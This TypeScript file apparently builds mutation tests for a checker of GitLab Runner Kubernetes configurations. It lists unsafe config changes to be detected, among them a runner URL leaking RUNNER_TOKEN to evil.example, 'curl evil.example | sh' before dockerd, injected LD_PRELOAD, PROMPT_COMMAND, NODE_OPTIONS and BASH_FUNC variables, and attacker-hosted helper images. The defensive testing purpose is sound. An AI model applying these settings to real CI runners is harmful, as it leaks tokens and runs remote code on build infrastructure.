import { type Manifest, push, set } from '../edit';
import {
  editConfig,
  editKubernetes,
  editSection,
  type Mutation,
  manager,
  mutation,
  ofRunner,
  setKubernetes,
} from './mutation';

type Change = Mutation['mutate'];

/** Sets one key of `[[runners]]`. */
function setSection(key: string, value: unknown): Change {
  return (o) => editSection(o, (section) => set(section, [key], value));
}

/** Sets one key at the top of config.toml. */
function setGlobal(key: string, value: unknown): Change {
  return (o) => editConfig(o, (config) => set(config, key, value));
}

/** Adds one variable to the environment of all jobs. */
function variable(entry: string): Change {
  return (o) => editSection(o, (section) => push(section, 'environment', entry));
}

/** Changes the one service of the dind runner. */
function daemon(change: Manifest): Change {
  return (o) =>
    editKubernetes(
      o,
      (kubernetes) => {
        for (const [key, value] of Object.entries(change)) {
          set(kubernetes, `services.0.${key}`, value);
        }
      },
      'dind',
    );
}

const DOCKERD = ['dockerd', '--host=tcp://127.0.0.1:2375', '--tls=false'];

/** Changes of values in config.toml by which a token, a job or a node is lost although no guard is touched. */
export const CONFIG_VALUE_MUTATIONS: readonly Mutation[] = [
  mutation('config-gitlab-url', 'a URL that carries the token away', (o) =>
    editSection(o, (s) => set(s, 'url', 'https://evil.example/${RUNNER_TOKEN}')),
  ),
  mutation(
    'config-gitlab-url',
    'a URL with the token in another notation',
    setSection('url', 'https://e.example/$RUNNER_TOKEN'),
  ),
  mutation('config-gitlab-url', 'a URL with a user', setSection('url', 'https://user@gitlab.com')),
  mutation('config-gitlab-url', 'a URL with a query', setSection('url', 'https://gitlab.com/?a=b')),
  mutation(
    'config-gitlab-url',
    'one runner that asks somebody else',
    setSection('url', 'https://evil.example'),
  ),
  mutation('config-gitlab-url', 'jobs that clone elsewhere', setSection('clone_url', 'https://evil.example')),
  mutation(
    'config-gitlab-url',
    'jobs that clone with a user',
    setSection('clone_url', 'https://a:b@gitlab.com'),
  ),
  mutation(
    'config-values',
    'a script before the sources',
    setSection('pre_get_sources_script', 'curl evil.example'),
  ),
  mutation('config-values', 'a script after the sources', setSection('post_get_sources_script', 'x')),
  mutation('config-values', 'a script before each job', setSection('pre_build_script', 'x')),
  mutation('config-values', 'a script after each job, in another case', setSection('Post_Build_Script', 'x')),
  mutation(
    'config-values',
    'hooks of containers',
    setKubernetes('container_lifecycle', { post_start: { exec: { command: ['sh'] } } }),
  ),
  mutation(
    'config-values',
    'a hook that makes the node send a request',
    setKubernetes('container_lifecycle', { pre_stop: { http_get: { port: 80 } } }),
  ),
  mutation(
    'config-values',
    'names that end with a domain of somebody else',
    setKubernetes('dns_config', { searches: ['evil.example'] }),
  ),
  mutation('config-values', 'errors that are sent away', setGlobal('sentry_dsn', 'https://a@evil.example/1')),
  mutation(
    'config-cache',
    'a cache with credentials',
    setSection('cache', { Type: 's3', s3: { AccessKey: 'a', SecretKey: 'b' } }),
  ),
  mutation(
    'config-values',
    'a certificate of a client that jobs get',
    setSection('tls-key-file', '/etc/gitlab-runner/k'),
  ),
  mutation(
    'config-values',
    'a file of the manager that jobs get',
    setSection('tls-ca-file', '/var/run/secrets/kubernetes.io/serviceaccount/token'),
  ),
  mutation(
    'config-values',
    'metrics of jobs from an address of somebody else',
    setSection('referees', { metrics: { prometheus_address: 'http://evil.example' } }),
  ),
  mutation(
    'config-values',
    'jobs beside pods of others',
    setKubernetes('affinity', {
      pod_affinity: {
        required_during_scheduling_ignored_during_execution: [{ topology_key: 'kubernetes.io/hostname' }],
      },
    }),
  ),
  mutation(
    'config-values',
    'a log of every job in a file',
    setGlobal('experimental', { usage_logger: { enabled: true, log_dir: '/tmp' } }),
  ),
  mutation('config-directories', 'a ConfigMap over the settings of the daemon', (o) =>
    editKubernetes(
      o,
      (k) => set(k, 'volumes.config_map', [{ name: 'x', mount_path: '/etc/docker' }]),
      'dind',
    ),
  ),
  mutation(
    'config-directories',
    'logs over the programs of the image',
    setKubernetes('logs_base_dir', '/usr/bin'),
  ),
  mutation(
    'config-directories',
    'scripts over the configuration of the image',
    setKubernetes('scripts_base_dir', '/etc'),
  ),
  mutation(
    'config-directories',
    'sources over the data of the daemon',
    setSection('builds_dir', '/var/lib/docker'),
  ),
  mutation('config-directories', 'a cache that climbs', setSection('cache_dir', '/cache/../etc')),
  mutation('config-environment', 'a library in every program', variable('LD_PRELOAD=/builds/x.so')),
  mutation('config-environment', 'a script in every bash', variable('BASH_ENV=/builds/x.sh')),
  mutation('config-environment', 'a script in every shell', variable('ENV=/builds/x.sh')),
  mutation('config-environment', 'other programs first', variable('PATH=/builds/bin:/usr/bin')),
  mutation('config-environment', 'a command at every prompt', variable('PROMPT_COMMAND=curl evil.example')),
  mutation('config-environment', 'another ssh for git', variable('GIT_SSH_COMMAND=sh -c x')),
  mutation('config-environment', 'settings of git', variable('GIT_CONFIG_COUNT=1')),
  mutation('config-environment', 'git without TLS', variable('GIT_SSL_NO_VERIFY=true')),
  mutation(
    'config-environment',
    'a command in the flags of git',
    variable('GIT_FETCH_EXTRA_FLAGS=--upload-pack=/builds/x'),
  ),
  mutation('config-environment', 'a module in every node', variable('NODE_OPTIONS=--require /builds/x.js')),
  mutation('config-environment', 'a module in every python', variable('PYTHONSTARTUP=/builds/x.py')),
  mutation('config-environment', 'a module in every perl', variable('PERL5OPT=-Mx')),
  mutation('config-environment', 'a function of bash', variable('BASH_FUNC_git%%=() { curl evil.example; }')),
  mutation(
    'config-environment',
    'an agent in every JVM',
    variable('JAVA_TOOL_OPTIONS=-javaagent:/builds/x.jar'),
  ),
  mutation('config-environment', 'another daemon', variable('DOCKER_HOST=tcp://evil.example:2375')),
  mutation('config-environment', 'a token of GitLab', variable('CI_JOB_TOKEN=x')),
  mutation(
    'config-environment',
    'a library in the daemon',
    daemon({ environment: ['LD_PRELOAD=/builds/x.so'] }),
  ),
  mutation(
    'daemon-command',
    'a shell before the daemon',
    daemon({ command: ['sh', '-c', 'curl evil.example | sh; exec dockerd --host=tcp://127.0.0.1:2375'] }),
  ),
  mutation(
    'daemon-command',
    'a shell as the entrypoint of the daemon',
    daemon({ entrypoint: ['sh', '-c', 'x'] }),
  ),
  mutation(
    'daemon-command',
    'a registry without TLS',
    daemon({ command: [...DOCKERD, '--insecure-registry=0.0.0.0/0'] }),
  ),
  mutation(
    'daemon-command',
    'a runtime of somebody else',
    daemon({ command: [...DOCKERD, '--add-runtime=x=/builds/x'] }),
  ),
  mutation(
    'daemon-command',
    'a plugin that decides',
    daemon({ command: [...DOCKERD, '--authorization-plugin', 'x'] }),
  ),
  mutation(
    'daemon-command',
    'a configuration that jobs write',
    daemon({ command: [...DOCKERD, '--config-file=/builds/daemon.json'] }),
  ),
  mutation('daemon-command', 'a command in a variable', daemon({ command: [...DOCKERD, '$(X)'] })),
  mutation('service-names', 'a service that answers as GitLab', daemon({ alias: 'docker gitlab.com' })),
  mutation(
    'service-names',
    'a name of GitLab for the pod itself',
    setKubernetes('host_aliases', [{ ip: '127.0.0.1', hostnames: ['docker', 'gitlab.com'] }]),
  ),
  mutation(
    'image-registries',
    'a helper of somebody else',
    setKubernetes(
      'helper_image',
      'registry.attacker.example/gitlab-org/gitlab-runner/gitlab-runner-helper:x86_64-v19.3.2',
    ),
  ),
  mutation(
    'image-registries',
    'a helper that only begins like one',
    setKubernetes('helper_image', 'registry.gitlab.com/gitlab-org/gitlab-runner-evil/helper:1.0'),
  ),
  mutation('image-registries', 'a manager of somebody else', (o) =>
    set(manager(o), 'image', 'docker.io/attacker/gitlab-runner:alpine-v19.3.2'),
  ),
  mutation(
    'image-registries',
    'images of a registry that no policy names',
    setKubernetes('allowed_images', ['docker.io/library/*:*', 'evil.example/**']),
  ),
  mutation(
    'image-allow-lists',
    'every registry of a domain',
    setKubernetes('allowed_images', ['docker.io/library/*:*', '*.example/**']),
  ),
  mutation(
    'image-allow-lists',
    'every registry with one path',
    setKubernetes('allowed_images', ['docker.io/library/*:*', '*/*:*']),
  ),
  mutation(
    'image-allow-lists',
    'a registry among braces',
    setKubernetes('allowed_services', ['{docker.io/library,*.evil.example}/docker:*']),
  ),
  mutation('config-capacity', 'more jobs than the quota holds', setGlobal('concurrent', 400)),
  mutation('config-capacity', 'a flood of requests', setSection('request_concurrency', 10_000)),
  mutation('config-capacity', 'more replicas than the quota holds', (o) =>
    set(ofRunner(o, 'Deployment'), 'spec.replicas', 3),
  ),
  mutation('config-capacity', 'a limit of nothing', setKubernetes('memory_limit', '0')),
  mutation('config-capacity', 'a limit above the range of the namespace', setKubernetes('cpu_limit', '64')),
  mutation(
    'config-capacity',
    'jobs that raise their own limit',
    setKubernetes('memory_limit_overwrite_max_allowed', '1Ti'),
  ),
  mutation(
    'config-capacity',
    'jobs that raise the limit of their services',
    setKubernetes('service_cpu_limit_overwrite_max_allowed', '64'),
  ),
];
